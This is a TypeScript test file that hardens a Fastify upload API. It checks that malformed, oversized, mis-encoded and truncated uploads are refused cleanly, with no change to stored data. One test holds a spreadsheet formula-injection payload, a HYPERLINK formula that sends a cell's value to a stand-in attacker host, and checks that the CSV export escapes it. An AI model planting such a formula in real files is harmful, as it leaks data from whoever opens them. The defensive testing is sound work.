/**
 * POST /api/ingest (multipart) with what a browser, a script or an attacker may send: no body, no file part,
 * a field part instead of a file, an empty file, a file over the upload limit, binary garbage, UTF-16 and
 * Windows-1252 text, a file named after no entity, two files for one entity, a truncated body, 200,000 bad
 * rows, formula cells. Each is a 4xx problem+json or a rejection that names the file and the reason — never a
 * 5xx — and a refused upload changes no canonical row; the upload scratch folder is empty afterwards. A
 * formula cell is data: it loads as text, and the dashboard's CSV of it is escaped.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENTITIES } from '../../ingest/entities.ts';
import { buildApp } from '../../server/app.ts';
import type { Warehouse } from '../../warehouse/warehouse.ts';
import { drillTable } from '../../web/lib/drill.ts';
import { toCsv } from '../../web/lib/table.ts';
import { tempDir, TINY } from '../helpers/fixtures.ts';
import { buildFixture } from '../helpers/models.ts';
import { answerProblem } from './helpers.ts';

/** The limit the test app is built with: small, so the over-limit file stays small too. */
const UPLOAD_LIMIT = 256 * 1024;

let dir: string;
let warehouse: Warehouse;
let app: FastifyInstance;

beforeAll(async () => {
    dir = tempDir('realize-uploads-');
    warehouse = await buildFixture(TINY);
    app = await buildApp({ warehouse, uploadLimit: UPLOAD_LIMIT });
    await app.ready();
});

afterAll(async () => {
    await app?.close();
    warehouse?.close();
    fs.rmSync(dir, { recursive: true, force: true });
});

interface Part {
    name: string;
    /** Absent: a plain field part, not a file. */
    filename?: string;
    type?: string;
    content: string | Buffer;
}

const BOUNDARY = '----realize-hardening-boundary';

function multipart(parts: Part[], { close = true }: { close?: boolean } = {}): Buffer {
    const chunks: Buffer[] = [];
    for (const p of parts) {
        const disposition = `form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
        const head = `--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n${p.filename !== undefined ? `Content-Type: ${p.type ?? 'text/csv'}\r\n` : ''}\r\n`;
        chunks.push(Buffer.from(head), Buffer.isBuffer(p.content) ? p.content : Buffer.from(p.content), Buffer.from('\r\n'));
    }
    if (close) chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
    return Buffer.concat(chunks);
}

const upload = (payload: Buffer | string, type = `multipart/form-data; boundary=${BOUNDARY}`) =>
    app.inject({ method: 'POST', url: '/api/ingest', headers: { 'content-type': type }, payload });

const file = (name: string, content: string | Buffer): Part => ({ name: 'file', filename: name, content });

/** Rows per canonical table and loaded batches: what a refused upload must leave as it was. */
async function counts(): Promise<Record<string, number>> {
    const out: Record<string, number> = {};
    for (const e of ENTITIES) out[e.name] = (await warehouse.one<{ n: number }>(`select count(*)::integer as n from canonical.${e.name}`))!.n;
    out.loaded_batches = (await warehouse.one<{ n: number }>(`select count(*)::integer as n from ingest.batches where status = 'loaded'`))!.n;
    return out;
}

/** The scratch files uploads are written to before they load: none may outlive its request. */
function scratchLeft(): string[] {
    const folder = app.uploadDir;
    if (!folder || !fs.existsSync(folder)) return [];
    return fs.readdirSync(folder);
}

interface IngestAnswer {
    ok: boolean;
    status: string;
    rejects: { file: string; line: number | null; column: string | null; value: string | null; reason: string }[];
}

/**
 * A refusal: a 4xx problem+json (naming `parameter` when given), or a rejection whose report names the file
 * and a reason for every row it lists; never a 5xx. Returns what was said, for the case's own checks.
 */
function expectRefused(res: LightMyRequestResponse, expected: { parameter?: string; file?: string } = {}): string {
    expect(res.statusCode, res.body.slice(0, 500)).toBeLessThan(500);
    if (res.statusCode >= 400) {
        expect(answerProblem(res, expected.parameter ? [expected.parameter] : undefined)).toBeNull();
        return String(res.json().detail);
    }
    const body = res.json() as IngestAnswer;
    expect(body.ok).toBe(false);
    expect(body.status).toBe('rejected');
    expect(body.rejects.length).toBeGreaterThan(0);
    for (const r of body.rejects) {
        expect(r.reason).toMatch(/\S/);
        if (expected.file) expect(r.file).toBe(expected.file);
    }
    return body.rejects.map((r) => r.reason).join('; ');
}

const PEOPLE = fs.readFileSync(path.join(TINY, 'people.csv'), 'utf8');

describe('uploads that must be refused, leaving the warehouse as it was', () => {
    const cases: { name: string; send: () => Promise<LightMyRequestResponse>; parameter?: string; file?: string; says?: RegExp }[] = [
        { name: 'an empty body', send: () => upload(Buffer.alloc(0)), says: /file|multipart|empty/i },
        { name: 'a multipart body with no part at all', send: () => upload(`--${BOUNDARY}--\r\n`), parameter: 'file', says: /file/i },
        { name: 'a field part instead of a file part', send: () => upload(multipart([{ name: 'people.csv', content: PEOPLE }])), parameter: 'file', says: /file/i },
        { name: 'an empty file', send: () => upload(multipart([file('people.csv', '')])), file: 'people.csv', says: /empty|header|no rows|nothing/i },
        { name: 'a file part with no name', send: () => upload(multipart([file('', PEOPLE)])), parameter: 'file' },
        { name: 'a file named after no entity', send: () => upload(multipart([file('stuff.csv', PEOPLE)])), parameter: 'file', says: /stuff\.csv/ },
        { name: 'a file that is neither CSV nor Parquet', send: () => upload(multipart([file('people.xlsx', PEOPLE)])), parameter: 'file', says: /people\.xlsx/ },
        { name: 'two files for one entity', send: () => upload(multipart([file('people.csv', PEOPLE), file('people.parquet', PEOPLE)])), says: /people/ },
        {
            name: 'binary garbage',
            send: () => upload(multipart([file('time_entries.csv', Buffer.from(Array.from({ length: 64 * 1024 }, (_, i) => (i * 7919 + 13) % 256)))])),
            file: 'time_entries.csv',
        },
        {
            name: 'UTF-16 text',
            send: () => upload(multipart([file('people.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(PEOPLE.replace('Ada Lovelace', 'Zoë Lovelace'), 'utf16le')]))])),
            file: 'people.csv',
        },
        {
            name: 'Windows-1252 text',
            send: () => upload(multipart([file('people.csv', Buffer.from(PEOPLE.replace('Ada Lovelace', 'Zoë Lovelace'), 'latin1'))])),
            file: 'people.csv',
            says: /encod|UTF-8|unicode/i,
        },
        {
            name: 'a body cut off before its end',
            send: () => upload(multipart([file('people.csv', PEOPLE)], { close: false }).subarray(0, 200)),
        },
        {
            name: 'a file over the upload limit',
            send: () => upload(multipart([file('time_entries.csv', 'x'.repeat(UPLOAD_LIMIT + 1024))])),
            says: new RegExp(`${UPLOAD_LIMIT}|256 ?KiB|limit`, 'i'),
        },
        { name: 'JSON instead of multipart', send: () => upload('{"people.csv": "person_id"}', 'application/json'), says: /multipart/ },
        { name: 'a multipart type with no boundary', send: () => upload('no boundary at all', 'multipart/form-data'), says: /multipart|boundary/i },
    ];

    for (const c of cases) {
        it(`refuses ${c.name}`, async () => {
            const before = await counts();
            const res = await c.send();
            const said = expectRefused(res, { parameter: c.parameter, file: c.file });
            if (c.says) expect(said).toMatch(c.says);
            expect(await counts()).toEqual(before);
            expect(scratchLeft()).toEqual([]);
        });
    }
});

/** POST /api/imports/billing stores its files as POST /api/imports does: the same bodies, refused the same way. */
describe('billing exports that must be refused, leaving the warehouse as it was', () => {
    const billing = (payload: Buffer | string, type = `multipart/form-data; boundary=${BOUNDARY}`) =>
        app.inject({ method: 'POST', url: '/api/imports/billing', headers: { 'content-type': type }, payload });
    const NINJA = fs.readFileSync(path.resolve(import.meta.dirname, '../fixtures/billing-edge/invoiceninja-invoices.csv'));
    const billingCases: { name: string; send: () => Promise<LightMyRequestResponse>; status: number; parameter?: string; says?: RegExp }[] = [
        { name: 'an empty body', send: () => billing(Buffer.alloc(0)), status: 400, says: /file|multipart|empty/i },
        { name: 'a multipart body with no part at all', send: () => billing(`--${BOUNDARY}--\r\n`), status: 400, parameter: 'file', says: /file/i },
        { name: 'a field part instead of a file part', send: () => billing(multipart([{ name: 'invoices.csv', content: NINJA }])), status: 400, parameter: 'file' },
        { name: 'an empty file', send: () => billing(multipart([file('invoices.csv', '')])), status: 400, parameter: 'file', says: /empty/ },
        { name: 'a file part with no name', send: () => billing(multipart([file('', NINJA)])), status: 400, parameter: 'file' },
        { name: 'a file that is no export', send: () => billing(multipart([file('invoices.exe', NINJA)])), status: 400, parameter: 'file', says: /invoices\.exe/ },
        {
            name: 'binary garbage',
            send: () => billing(multipart([file('invoices.csv', Buffer.from(Array.from({ length: 64 * 1024 }, (_, i) => (i * 7919 + 13) % 256)))])),
            status: 400,
            parameter: 'tool',
            says: /invoices\.csv/,
        },
        { name: 'a truncated body', send: () => billing(multipart([file('invoices.csv', NINJA)], { close: false }).subarray(0, 200)), status: 400 },
        { name: 'a file over the upload limit', send: () => billing(multipart([file('invoices.csv', 'x'.repeat(UPLOAD_LIMIT + 1024))])), status: 413, parameter: 'file' },
        { name: 'JSON instead of multipart', send: () => billing('{"invoices.csv": "Client"}', 'application/json'), status: 415, says: /multipart/ },
    ];
    for (const c of billingCases) {
        it(`refuses ${c.name}`, async () => {
            const before = await counts();
            const res = await c.send();
            expect(res.statusCode, res.body.slice(0, 500)).toBe(c.status);
            expect(answerProblem(res, c.parameter ? [c.parameter] : undefined)).toBeNull();
            if (c.says) expect(String(res.json().detail)).toMatch(c.says);
            expect(await counts()).toEqual(before);
            expect(scratchLeft()).toEqual([]);
        });
    }
});

describe('a file with 200,000 bad rows', () => {
    it('is rejected with a bounded report that still counts every bad row', async () => {
        // 17 MB: a server with room for it.
        const roomy = await buildApp({ warehouse, uploadLimit: 64 * 1024 * 1024 });
        const before = await counts();
        // Every row names a person the firm does not have (a reference rule), the same reason 200,000 times.
        const header = fs.readFileSync(path.join(TINY, 'time_entries.csv'), 'utf8').split('\n')[0]!;
        const rows = Array.from({ length: 200_000 }, (_, i) => `X${i},NOBODY,PRJ1,build,,development,2024-01-04,3600,true,,timer,2024-01-04T18:00:00+00:00,submitted,,,,`);
        const res = await roomy.inject({
            method: 'POST',
            url: '/api/ingest',
            headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
            payload: multipart([file('time_entries.csv', `${header}\n${rows.join('\n')}\n`)]),
        });
        const scratch = roomy.uploadDir;
        await roomy.close();
        expect(res.statusCode, res.body.slice(0, 500)).toBe(200);
        const body = res.json() as IngestAnswer & { files: { file: string; rejected: number }[]; rejects_total?: number; reject_counts?: unknown };
        expect(body.status).toBe('rejected');
        expect(body.files.find((f) => f.file === 'time_entries.csv')?.rejected).toBe(200_000);
        // The list is bounded; the counts are whole.
        expect(body.rejects.length).toBeGreaterThan(0);
        expect(body.rejects.length).toBeLessThanOrEqual(10_000);
        expect(res.body.length).toBeLessThan(5 * 1024 * 1024);
        expect(body.rejects_total).toBe(200_000);
        expect(body.reject_counts).toEqual([{ file: 'time_entries.csv', reason: expect.stringMatching(/person/), count: 200_000 }]);
        expect(await counts()).toEqual(before);
        expect(fs.existsSync(scratch) ? fs.readdirSync(scratch) : []).toEqual([]);
    }, 120_000);
});

describe('formula cells', () => {
    it('load as text and come out of the dashboard’s CSV escaped', async () => {
        const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
        const entries = fs.readFileSync(path.join(TINY, 'time_entries.csv'), 'utf8').trimEnd() + `\nE9,P1,PRJ1,build,+task,development,2024-01-09,3600,true,"${formula.replaceAll('"', '""')}",timer,2024-01-09T18:00:00+00:00,submitted,,,,\n`;
        const res = await upload(multipart([file('time_entries.csv', entries)]));
        expect(res.statusCode, res.body.slice(0, 500)).toBe(200);
        expect(res.json().status).toBe('loaded');
        const stored = await warehouse.one<{ notes: string; task: string }>(`select notes, task from canonical.time_entries where entry_id = 'E9'`);
        expect(stored).toEqual({ notes: formula, task: '+task' });

        // The rows behind January's standard value, as the drill panel shows them and writes their CSV.
        const drill = await app.inject({ method: 'GET', url: '/api/drill/realization?part=standard_value&from=2024-01-01&to=2024-01-31&as_of=2024-01-31&page_size=100' });
        expect(drill.statusCode, drill.body.slice(0, 300)).toBe(200);
        const answer = drill.json();
        const row = answer.rows.find((r: Record<string, unknown>) => r.entry_id === 'E9');
        expect(row?.notes).toBe(formula);
        const dims = (await app.inject({ method: 'GET', url: '/api/dimensions' })).json();
        const csv = toCsv(drillTable(answer, dims, 'money'), { currency: answer.currency });
        expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
        // No field of the CSV starts a formula.
        expect(csv).not.toMatch(/(^|,)[=+@]/m);
    });
});
